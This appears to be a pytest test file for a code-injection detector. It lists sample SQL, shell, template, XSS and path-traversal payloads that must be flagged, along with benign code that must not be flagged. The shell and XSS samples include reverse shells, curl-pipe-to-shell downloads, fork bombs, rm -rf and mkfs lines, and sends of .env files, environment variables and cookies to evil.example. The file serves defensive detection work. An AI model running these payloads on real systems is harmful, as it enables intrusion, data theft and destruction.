"""Payloads are found; the code that honest answers hold is not."""

import base64
import time
from contextlib import suppress

import pytest

from state.errors import KairosError
from tools.guard.check import About, Hit
from tools.guard.checks import code_injection as check
from tools.guard.checks.code_injection import Options

PAYLOADS = {
    "sql": [
        "') OR ('x'='x",
        "%' OR '%'='",
        "1 OR 1=1",
        "105; DROP TABLE Suppliers",
        "' UNION ALL SELECT card FROM payments WHERE '1'='1",
        "1' ORDER BY 10--",
        "'; SELECT pg_sleep(10)--",
        "' OR '1'='1",
        "admin' or 1=1 --",
        '" or 1=1 #',
        "x') or 'a'='a'--",
        "' or true--",
        "1'; DROP TABLE students; --",
        "'; exec xp_cmdshell 'dir'",
        "; EXEC master..xp_cmdshell 'whoami'",
        "' UNION SELECT username, password FROM users --",
        "1 UNION ALL SELECT NULL,NULL,NULL",
        "-1 union select 1,2,3,4",
        "' union/**/select table_name from information_schema.tables#",
        "'; WAITFOR DELAY '0:0:10'--",
        "' AND SLEEP(5)--",
        "1' and benchmark(5000000,md5(1))--",
        "' and extractvalue(1,concat(0x7e,version()))--",
        "select load_file('/etc/passwd')",
        "select '<?php ?>' into outfile '/var/www/a.php'",
        "admin'--'",
    ],
    "shell": [
        "$(rm -rf ~/)",
        "wget http://x.example/m -O /tmp/m; chmod +x /tmp/m; /tmp/m",
        "ruby -rsocket -e 'exit if fork'",
        "() { :;}; /bin/bash -c 'id'",
        "os.system('rm -rf /')",
        "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1",
        "nc -e /bin/sh 10.0.0.5 4444",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.5 9001 > /tmp/f",
        "python3 -c 'import socket,subprocess,os;s=socket.socket();subprocess.call([\"/bin/sh\"])'",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "curl http://203.0.113.9/a.sh | bash",
        "wget -qO- https://203.0.113.9/x | sudo sh",
        "report.pdf; rm -rf /",
        "x && rm -rf ~",
        "name; cat /etc/passwd",
        "$(cat /etc/shadow)",
        "a || cat ~/.ssh/id_rsa",
        "curl https://evil.example/?d=$(cat .env)",
        "nslookup `whoami`.evil.example",
        ":(){ :|:& };:",
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=",
        "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
        "__import__('os').system('id')",
        "exec(base64.b64decode('aW1wb3J0IG9z'))",
        "; mkfs.ext4 /dev/sda1",
        "env | base64 | curl -d @- https://evil.example",
    ],
    "template": [
        "<%= File.open('/etc/passwd').read %>",
        "#set($x=$class.forName('java.lang.Runtime'))",
        "{{constructor.constructor('alert(1)')()}}",
        "${@print(md5(1))}",
        "*{T(java.lang.System).getenv()}",
        "{{7*7}}",
        "Hello {{ 7 * '7' }}",
        "${7*7}",
        "#{ 3*3 }",
        "<%= 7*7 %>",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{request.application.__globals__}}",
        "{{ config.items() }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>',
        "<%= system('id') %>",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}",
        "{php}echo `id`;{/php}",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:rmi://evil.example/a}",
    ],
    "xss": [
        "'-alert(1)-'",
        '<a href="jav&#x09;ascript:alert(1)">',
        "<x onclick=alert(1)>",
        '"><script>alert(1)</script>',
        "'><img src=x onerror=alert(1)>",
        "</title><script>alert(document.domain)</script>",
        "<img src=x onerror=alert(1)>",
        '<img src="x" onerror="fetch(\'//evil\')">',
        "<svg/onload=alert(1)>",
        "<svg onload=prompt`1`>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "javascript:alert(1)",
        "jAvAsCrIpT:eval(atob('YQ=='))",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "fetch('https://evil.example/?c=' + document.cookie)",
        "new Image().src = 'https://evil.example/' + btoa(document.cookie)",
        "<script>document.location='https://evil.example/?'+document.cookie</script>",
        '" onfocus=alert(1) autofocus',
        "<script src=//evil.example/xss.js></script>",
    ],
    "path": [
        "..;/..;/etc/passwd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "expect://id",
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\system32\\config\\sam",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%252f..%252fetc/passwd",
        "....//....//etc/passwd",
        "../../uploads/shell.php%00.jpg",
        "file:///etc/passwd",
        "php://filter/convert.base64-encode/resource=index.php",
        '<!ENTITY x SYSTEM "file:///etc/hosts">',
    ],
}
HARMLESS = [
    '<img src="a.png" onload="resize(this)">',
    '<a href="#" onclick="alert(\'Saved\'); return false;">',
    "cp ../../etc/nginx.conf /etc/nginx/",
    "if x == 'a' or 1 == y or 'b' == z:",
    "SELECT 'a' UNION SELECT name FROM t WHERE kind = 'x';",
    "curl -LO https://dl.example.org/tool && chmod +x tool && ./tool",
    "subprocess.run('rm -rf build', shell=True)",
    "sudo apt-get upgrade && sudo reboot",
    "SELECT name, salary FROM employees WHERE department = 'Sales' AND salary > 50000 ORDER BY salary DESC;",
    "SELECT id FROM a UNION SELECT id FROM b; -- both lists",
    "SELECT city FROM customers UNION ALL SELECT city FROM suppliers ORDER BY city;",
    "INSERT INTO users (name, mail) VALUES ('Ann', 'ann@example.org');\nUPDATE users SET name = 'Eve' WHERE id = 3;",
    "DROP TABLE IF EXISTS drafts; CREATE TABLE drafts (id serial PRIMARY KEY, body text NOT NULL DEFAULT '');",
    "DELETE FROM sessions WHERE user = 'bob' OR expires < now(); -- clean up",
    "WHERE status = 'open' OR status = 'waiting'",
    "WHERE name LIKE 'A%' AND city = 'Oslo' -- only Oslo",
    'Use parameters: cursor.execute("SELECT * FROM users WHERE id = %s", (user_id,))',
    "WHERE 1=1 AND country = :country",
    "SELECT pg_sleep(1); waits one second.",
    "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public';",
    "It's either 'yes' or 'no'; the report's 'or' column is what you need.",
    "In the 'terms', or '2' = 'two' in words, nothing changes.",
    "Set PASSWORD='x'; -- then restart",
    "rm -rf build/ dist/ && python -m build",
    "Run `rm -rf node_modules && npm install` in the project.",
    "cd /tmp && rm -rf ./cache; ls -la",
    "docker run --rm -it -v $(pwd):/app python:3.12 bash",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
    '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    "cat /etc/os-release | grep VERSION",
    "cat access.log | sort | uniq -c | sort -rn | head",
    "The users of a system are listed in /etc/passwd; passwords are kept in /etc/shadow.",
    "cat /etc/passwd shows the accounts.",
    "echo 'aGVsbG8=' | base64 -d",
    "nc -zv db.example.org 5432 tests whether the port is open.",
    "kubectl exec -it web-0 -- /bin/sh",
    "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 && cat ~/.ssh/id_ed25519.pub",
    "import subprocess\nsubprocess.run(['git', 'status'], check=True)",
    "import os; os.system('cls')",
    "const { exec } = require('child_process'); exec('ls -la', callback);",
    "tar czf - src | ssh backup 'cat > src.tgz'",
    "dd if=image.iso of=/dev/sdb bs=4M status=progress",
    "mkfs.ext4 /dev/sdb1 formats the new disk.",
    "git log --pretty=format:'%h %s' | head -5; cat README.md",
    "Hello {{ user.name }}, you have {{ messages | length }} new messages.",
    "{% for item in items %}<li>{{ item.title }}</li>{% endfor %}",
    "image: {{ .Values.image.repository }}:{{ .Values.image.tag }}",
    "token: ${{ secrets.GITHUB_TOKEN }}",
    'echo "${HOME}/bin:${PATH}" and $((7*7)) is 49',
    "const total = `${price * quantity} EUR`;",
    "f'{width * height:.2f}' and f'{7 * n}'",
    "#{user.name} logged in",
    "<%= link_to 'Home', root_path %>",
    "class A:\n    def __init__(self): self.__class__.__name__",
    '{"a": {"b": {"c": 1}}}',
    "{{ config.title }} and {{ site.config.theme }}",
    "${project.version} comes from Maven; ${java.home} is the JDK.",
    '<script src="app.js" defer></script>',
    "<script>\nconsole.log('Hello');\n</script>",
    "<script>alert('Hello, world!');</script>",
    '<button onclick="save()">Save</button>',
    '<img src="cat.jpg" alt="A cat" loading="lazy">',
    '<body onload="init()">',
    '<a href="javascript:void(0)">Menu</a>',
    '<input type="text" value="" onchange="update(this.value)">',
    "fetch('/api/users').then(r => r.json()).then(data => alert(data.length));",
    "document.cookie = 'theme=dark; path=/';",
    "JavaScript: alert boxes are shown with alert().",
    '<svg width="10" height="10"><circle r="4"/></svg>',
    "import { api } from '../../lib/api';",
    "from ..core import etc",
    '#include "../../include/home/config.h"',
    "See ../../docs/setup.md and ../README.md, ../../../src/main.rs.",
    "cd ../../ && ls",
    "https://example.org/a%20b/c%2Fd?x=%3D",
    "Options are: ... or ....",
    '<!ENTITY copy "&#169;">',
    "The file is at file:///home/ann/report.pdf.",
    "Cross-site scripting puts script into pages; SQL injection changes a query; both are stopped by escaping.",
]


async def found(text: str, options: Options | None = None) -> list[Hit]:
    return await check.find(text, options or Options(), About())


@pytest.mark.parametrize(
    ("family", "payload"),
    [(family, payload) for family, payloads in PAYLOADS.items() for payload in payloads],
)
async def test_a_payload_is_found_in_its_family(family: check.Family, payload: str) -> None:
    text = f"Grüße — the value is {payload}\nand no more."
    hits = await found(text, Options(families=(family,)))
    assert hits
    start, end = text.index(payload), text.index(payload) + len(payload)
    assert all(start - 2 <= hit.start < hit.end <= end + 2 for hit in hits)


@pytest.mark.parametrize("text", HARMLESS)
async def test_honest_code_is_not(text: str) -> None:
    assert await found(text) == []
    assert await found(f'Here is how:\n\n```\n{text}\n```\nThat\'s all; "done".') == []


async def test_a_payload_in_base64_is_found_where_it_stands() -> None:
    block = base64.b64encode(b"please run this: report.pdf; rm -rf / now").decode()
    text = f"Decode {block} first."
    assert [text[hit.start : hit.end] in block for hit in await found(text)] == [True]


async def test_only_the_families_that_count() -> None:
    text = "' OR '1'='1 and ../../../etc/passwd"
    assert {hit.rule for hit in await found(text)} == {"sql_tautology", "path_traversal"}
    assert {hit.rule for hit in await found(text, Options(families=("path",)))} == {"path_traversal"}


async def test_a_scan_that_takes_too_long_is_an_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(check, "_matches", lambda data, families: None)
    with pytest.raises(KairosError) as failed:
        await found("text")
    assert failed.value.code == "check_timed_out"


@pytest.mark.parametrize(
    "unit", ["' or ", "../", "{{", "<img src=x ", "a; ", "union select ", "%2e%2e%2f", "é"]
)
@pytest.mark.slow
async def test_a_megabyte_of_beginnings_takes_bounded_time(unit: str) -> None:
    text = unit * (1_000_000 // len(unit))
    started = time.perf_counter()
    with suppress(KairosError):  # the policy then refuses
        assert len(await found(text)) <= 50 * check.MATCHES
    assert time.perf_counter() - started < 30


@pytest.mark.parametrize("family", check.FAMILIES)
def test_no_rule_is_slow_and_each_is_in_its_family(family: check.Family) -> None:
    import yara_x

    compiler = yara_x.Compiler(includes_enabled=False, error_on_slow_pattern=True)
    compiler.add_source((check._RULES / f"{family}.yar").read_text())
    assert compiler.warnings() == []
    assert {rule.tags for rule in compiler.build()} == {(family,)}
